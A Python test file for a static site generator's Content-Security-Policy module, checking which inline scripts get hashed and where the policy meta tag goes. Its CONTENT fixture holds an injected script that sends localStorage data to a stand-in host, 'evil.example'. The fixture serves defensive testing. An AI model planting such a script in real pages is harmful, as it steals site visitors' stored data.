"""The policy trusts only the scripts the theme's templates wrote, never one from content."""

from __future__ import annotations

from generator import csp

THEME = "<script>var __md_scope=1</script>"
CONTENT = "<article><script>fetch('https://evil.example/'+localStorage.x)</script></article>"


def test_a_script_that_came_with_the_content_is_not_trusted() -> None:
    page = f"<html><head>{THEME}</head><body>{CONTENT}</body></html>"
    trusted = csp.template_script_hashes(page, CONTENT)
    assert trusted == csp.template_script_hashes(THEME)
    assert len(trusted) == 1
    script_src = csp.policy(trusted).split("script-src")[1].split(";")[0]
    assert "'unsafe-inline'" not in script_src  # (styles may be inline; scripts never)


def test_live_reload_policy_is_for_serve_only() -> None:
    strict = csp.policy({"'sha256-abc'"})
    assert "'sha256-abc'" in strict and "'unsafe-inline'" not in strict.split("script-src")[1].split(";")[0]
    dev = csp.policy({"'sha256-abc'"}, live_reload=True)
    assert "'unsafe-inline'" in dev and "'sha256-abc'" not in dev


def _hash(body: str) -> str:
    import base64
    import hashlib

    return f"'sha256-{base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()}'"


def test_which_scripts_are_hashed() -> None:
    """Only scripts whose own text runs: a data-src attribute is not a src, JSON never runs."""
    page = (
        '<script data-src="x">var a=1</script>'
        '<script type="module">var b=2</script>'
        '<script src="app.js"></script>'
        "<script SRC=app.js>var ignored=1</script>"
        '<script type="application/json">{"c": 3}</script>'
        "<script>   </script>"
    )
    assert csp.template_script_hashes(page) == {_hash("var a=1"), _hash("var b=2")}


def test_the_policy_goes_first_in_the_head_of_html_pages_only() -> None:
    page = "<!doctype html><html><head><script>var x=1</script></head><body></body></html>"
    done = csp.with_policy(page, csp.template_script_hashes(page))
    assert done.startswith('<!doctype html><html><head>\n    <meta http-equiv="Content-Security-Policy" content="')
    assert _hash("var x=1") in done.split("script-src", 1)[1].split(";")[0]
    assert csp.with_policy(done, set()) == done, "a page gets one policy"
    sitemap = '<?xml version="1.0"?><urlset></urlset>'
    assert csp.with_policy(sitemap, set()) == sitemap
    about_csp = f"<html><head></head><body><code>{csp.META_MARK}</code></body></html>"
    assert csp.META_MARK in csp.with_policy(about_csp, set()).split("</head>")[0], "a page may mention it"
